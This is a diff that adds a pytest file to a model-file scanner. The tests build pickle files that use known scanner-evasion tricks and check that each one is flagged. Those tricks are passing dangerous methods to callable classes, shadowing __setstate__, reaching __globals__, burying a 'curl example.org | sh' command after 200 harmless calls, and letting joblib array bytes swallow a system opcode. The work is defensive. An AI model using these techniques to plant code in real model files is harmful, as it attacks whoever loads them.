@@ -1,0 +1,145 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Files made to get past scanners: none passes, none merely warns.
+
+Each case is a way around a check that was found in this scanner or published of another.
+"""
+
+import struct
+from pathlib import Path
+
+import pytest
+
+from steelyard.core.policy import Outcome
+from tests.samples.opcodes import (
+    EMPTY_DICT,
+    NONE,
+    SYSTEM,
+    attribute,
+    binary,
+    build,
+    call,
+    dict_of,
+    integer,
+    list_of,
+    pickled,
+    text,
+    thing,
+    tuple_of,
+)
+from tests.samples.verdicts import verdict
+
+FILE = call(thing("pathlib.PosixPath"), text("/tmp/x"))
+NUMBERS = call(
+    thing("numpy.core.multiarray._reconstruct"), thing("numpy.ndarray"), tuple_of(), binary(b"b")
+)
+FRAME = call(thing("pandas.DataFrame"))
+METHODS = {
+    "path": attribute(FILE, "write_bytes"),
+    "path-class": attribute(thing("pathlib.Path"), "unlink"),
+    "array": attribute(NUMBERS, "tofile"),
+    "array-class": attribute(thing("numpy.ndarray"), "dump"),
+    "frame": attribute(FRAME, "eval"),
+    "frame-class": attribute(thing("pandas.core.frame.DataFrame"), "to_pickle"),
+    "storage": attribute(thing("torch.UntypedStorage"), "from_file"),
+    "unknown": attribute(thing("library.Thing"), "run"),
+}
+CALLERS = {
+    "function": call(
+        thing("scipy.optimize._differentiable_functions.ScalarFunction"), b"%s", NUMBERS
+    ),
+    "operator": call(thing("scipy.sparse.linalg._interface.LinearOperator"), tuple_of(), b"%s"),
+    "schedule": call(
+        thing("torch.optim.lr_scheduler.LambdaLR"), NONE, list_of(*[NONE] * 20, b"%s")
+    ),
+}
+
+
+@pytest.mark.parametrize("caller", CALLERS)
+@pytest.mark.parametrize("method", METHODS)
+def test_a_method_is_not_handed_to_a_class_that_calls_it(
+    tmp_path: Path, method: str, caller: str
+) -> None:
+    data = pickled(CALLERS[caller].replace(b"%s", METHODS[method]))
+    assert verdict(tmp_path, "model.pkl", data) is Outcome.FAIL
+
+
+WRITES = METHODS["path"]
+SHADOWS = {
+    "append": build(call(thing("sklearn.base.BaseEstimator")), dict_of("append", WRITES))
+    + text("data")
+    + b"a",
+    "setstate": build(
+        build(thing("sklearn.base.BaseEstimator") + b")\x81", dict_of("__setstate__", WRITES)),
+        text("data"),
+    ),
+    "key of a series": call(thing("pandas.Series"), list_of(integer(1))) + WRITES + NONE + b"s",
+    "sort key": call(
+        build(
+            call(thing("functools.partial"), thing("builtins.sorted")),
+            tuple_of(
+                thing("builtins.sorted"),
+                tuple_of(list_of(text("a"))),
+                dict_of("key", WRITES),
+                NONE,
+            ),
+        )
+    ),
+    "attributes of internals": call(thing("operator.attrgetter"), text("__init__.__globals__")),
+}
+
+
+@pytest.mark.parametrize("case", SHADOWS)
+def test_a_method_is_not_put_where_the_unpickler_calls_it(tmp_path: Path, case: str) -> None:
+    assert verdict(tmp_path, "model.pkl", pickled(SHADOWS[case])) is Outcome.FAIL
+
+
+def _many(last: bytes) -> bytes:
+    calls = [call(thing("library.Thing"), text(f"name{i}")) + b"0" for i in range(200)]
+    return pickled(b"".join(calls) + last)
+
+
+@pytest.mark.parametrize(
+    "last",
+    [
+        call(thing("library.Thing"), text("curl example.org | sh")),
+        call(thing("library.Thing"), list_of(text("curl example.org | sh"))),
+        call(thing("library.Thing"), list_of(*[NONE] * 20, thing("library.run"))),
+    ],
+    ids=["text", "text in a list", "function behind many items"],
+)
+def test_many_harmless_calls_do_not_hide_another(tmp_path: Path, last: bytes) -> None:
+    assert verdict(tmp_path, "model.pkl", _many(last)) is Outcome.FAIL
+
+
+WRAPPER = thing("joblib.numpy_pickle.NumpyArrayWrapper")
+STATE = (
+    EMPTY_DICT
+    + b"("
+    + text("shape")
+    + tuple_of(integer(5))
+    + text("dtype")
+    + build(
+        call(thing("numpy.dtype"), text("u1")),
+        tuple_of(integer(3), text("|"), NONE, NONE, NONE, integer(-1), integer(-1), integer(0)),
+    )
+    + b"u"
+)
+SWALLOWING = b"X" + struct.pack("<I", len(SYSTEM) + 1)  # a text, if it is read as opcodes
+
+
+@pytest.mark.parametrize(
+    "wrapper",
+    [
+        call(thing("copyreg._reconstructor"), WRAPPER, thing("builtins.object"), NONE),
+        call(thing("copy_reg._reconstructor"), WRAPPER, thing("builtins.object"), NONE),
+        call(thing("copyreg.__newobj__"), WRAPPER),
+        WRAPPER + b")\x81",
+        WRAPPER + b")}\x92",
+        call(attribute(WRAPPER, "__new__"), WRAPPER),
+        call(WRAPPER),
+    ],
+    ids=["reconstructor", "python 2", "newobj", "NEWOBJ", "NEWOBJ_EX", "attribute", "call"],
+)
+def test_bytes_of_an_array_of_joblib_do_not_swallow_opcodes(tmp_path: Path, wrapper: bytes) -> None:
+    data = pickled(wrapper + STATE + b"b" + SWALLOWING + SYSTEM + b"0")
+    assert verdict(tmp_path, "model.joblib", data) is Outcome.FAIL
